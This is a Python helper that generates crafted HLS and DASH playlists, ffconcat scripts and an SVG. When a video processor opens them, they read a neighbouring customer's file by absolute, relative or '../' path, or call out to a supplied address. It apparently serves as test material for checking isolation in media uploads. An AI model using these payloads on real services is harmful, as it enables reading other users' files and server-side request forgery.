"""Scripts and playlists that attack whoever opens them as a video."""

from pathlib import Path


def attack_playlists(neighbour: Path, address: str) -> dict[str, str]:
    """Return scripts and playlists that make a careless reader open `neighbour` or call `address`, by name.

    `neighbour` is an absolute path of another customer's file, in the folder above the upload's; a file of that
    name also lies beside the upload.
    """
    header = "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n"
    relative = neighbour.name

    def dash(base: str) -> str:
        return (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
            'mediaPresentationDuration="PT4S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period>'
            '<AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000">'
            f"<BaseURL>{base}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>"
        )

    return {
        "hls_http": f"{header}{address}/clip.ts\n#EXT-X-ENDLIST\n",
        "hls_absolute": f"{header}{neighbour}\n#EXT-X-ENDLIST\n",
        "hls_relative": f"{header}../{relative}\n#EXT-X-ENDLIST\n",
        "hls_concat": f"{header}concat:{neighbour}|{neighbour}\n#EXT-X-ENDLIST\n",
        "ffconcat_relative": f"ffconcat version 1.0\nfile {relative}\n",
        "ffconcat_absolute": f"ffconcat version 1.0\nfile {neighbour}\n",
        "ffconcat_up": f"ffconcat version 1.0\nfile ../{relative}\n",
        "dash_http": dash(f"{address}/clip.mp4"),
        "dash_local": dash(str(neighbour)),
        "svg_remote": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{address}/x.png"/></svg>',
        "text": "words that a terminal player would show as a film\n" * 100,
    }
